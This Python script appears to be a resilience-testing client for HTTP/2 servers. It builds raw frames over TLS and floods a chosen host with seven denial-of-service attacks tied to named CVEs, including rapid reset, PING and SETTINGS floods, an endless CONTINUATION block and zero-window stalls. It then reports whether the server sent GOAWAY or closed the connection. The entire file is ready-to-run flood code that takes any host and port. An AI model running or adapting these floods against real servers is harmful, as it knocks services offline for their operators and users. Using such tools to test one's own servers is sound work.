#!/usr/bin/env python3
"""A client of HTTP/2 that floods: frames made by hand on a real TLS connection. It says what became of it, as one line
"<sent> frames, <how it ended>, <seconds> s", where the end is "GOAWAY <code>", "closed" or "served".

  hostile-client.py HOST PORT CA WHAT [CERT KEY]

WHAT  rapid-reset    a request and its RST_STREAM, again and again (CVE-2023-44487)
      reset-made     requests that the server answers with RST_STREAM, its answers never read (CVE-2019-9514)
      ping           PINGs whose answers are never read (CVE-2019-9512)
      settings       SETTINGS whose answers are never read (CVE-2019-9515)
      empty          empty DATA frames of one request (CVE-2019-9518)
      continuation   a header block that does not end (CVE-2024-27316)
      window         an answer of which not a byte is allowed to come, on every stream (CVE-2019-9511, 9517)
"""
import socket
import ssl
import struct
import sys
import time

HOST, PORT, CA, WHAT = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
FRAMES = 200000  # of a flood that nobody ends


def frame(kind, flags, stream, data=b""):
    return struct.pack(">I", len(data))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + data


def literal(name, value):
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def request(stream, path=b"/api/v1/namespaces", method=b"\x82", end=True, more=b""):
    block = method + b"\x87" + literal(b":path", path) + literal(b":authority", b"x") + more
    return frame(HEADERS, 4 | (1 if end else 0), stream, block)


def unit(i):
    """The i-th piece of the flood: its bytes, and how many frames they are."""
    stream = 2 * i + 1
    if WHAT == "rapid-reset":
        return request(stream) + frame(RST, 0, stream, b"\0\0\0\x08"), 2
    if WHAT == "reset-made":
        return frame(HEADERS, 5, stream, b"\x82\x87" + literal(b":path", b"/") + literal(b"Upper", b"case")), 1
    if WHAT == "ping":
        return frame(PING, 0, 0, b"12345678"), 1
    if WHAT == "settings":
        return frame(SETTINGS, 0, 0, b""), 1
    if WHAT == "empty":
        return (request(1, method=b"\x83", end=False) if i == 0 else b"") + frame(DATA, 0, 1), 1
    if WHAT == "continuation":
        return (frame(HEADERS, 1, 1, b"\x82\x87") if i == 0 else b"") + frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 10), 1
    return request(stream, b"/openapi/v2"), 1


def main():
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    if len(sys.argv) > 6:
        context.load_cert_chain(sys.argv[5], sys.argv[6])
    s = context.wrap_socket(socket.create_connection((HOST, PORT), timeout=20))
    began = time.monotonic()
    initial = b"\0\x04\0\0\0\0" if WHAT == "window" else b""
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, initial))
    sent, i, end = 0, 0, ""
    limit = 60 if WHAT == "window" else FRAMES
    try:
        while sent < limit:
            piece = b""
            for _ in range(10 if WHAT == "window" else 200):
                more, n = unit(i)
                piece, sent, i = piece + more, sent + n, i + 1
            s.settimeout(8)
            s.sendall(piece)
    except (OSError, ssl.SSLError):
        end = "closed"
    # What had come meanwhile: the reason is in it, if one was given.
    data = b""
    s.settimeout(3 if end or WHAT == "window" else 8)
    try:
        while len(data) < 64 << 20:
            d = s.recv(65536)
            if not d:
                end = end or "closed"
                break
            data += d
    except (OSError, ssl.SSLError) as e:
        end = end or ("served" if isinstance(e, socket.timeout) else "closed")
    at = 0
    while at + 9 <= len(data):
        n = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == GOAWAY and at + 17 <= len(data):
            end = "GOAWAY %d" % int.from_bytes(data[at + 13:at + 17], "big")
        at += 9 + n
    print("%d frames, %s, %.1f s" % (sent, end, time.monotonic() - began))


main()
